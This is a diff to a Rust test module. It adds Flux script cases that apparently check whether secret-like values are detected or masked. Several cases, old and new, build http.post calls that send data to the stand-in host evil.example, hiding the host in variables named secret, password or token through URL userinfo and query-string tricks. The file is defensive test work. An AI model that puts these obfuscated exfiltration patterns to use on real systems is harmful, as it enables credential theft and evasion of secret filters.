@@ -204,6 +204,10 @@ mod tests {
             "import \"influxdata/influxdb/secrets\"\npassword = \"pager\"\nx = secrets.get(key: password)",
             "import \"http\"\ne = \"\"\ntoken = \"https://${e}evil.example/x\"\nx = http.post(url: token)",
             "import \"http\"\ne = \"\"\nkey = {token: \"ev${e}\", secret: \"${e}il.example\"}\nx = http.post(url: \"https://\" + key.token + key.secret)",
+            "import \"http\"\nsecret = \"u@evil.example\"\nx = http.post(url: \"https://\" + secret)",
+            "import \"http\"\nsecret = \"evil.example?token=abcdefghij\"\nx = http.post(url: \"https://\" + secret)",
+            "import \"http\"\npassword = \"x@evil.example:80/\"\nx = http.post(url: \"https://user:${password}@good.example/\")",
+            "import \"http\"\nx = \"password=x@evil.example/\"\ny = http.post(url: \"https://a:\" + x)",
             "e = \"\"\npassword = \"${e}raw7\"\nfrom(bucket: password) |> to(bucket: \"${password}8\")",
         ] {
             shown(&script.replace('§', "***"), &script.replace('§', "***"));
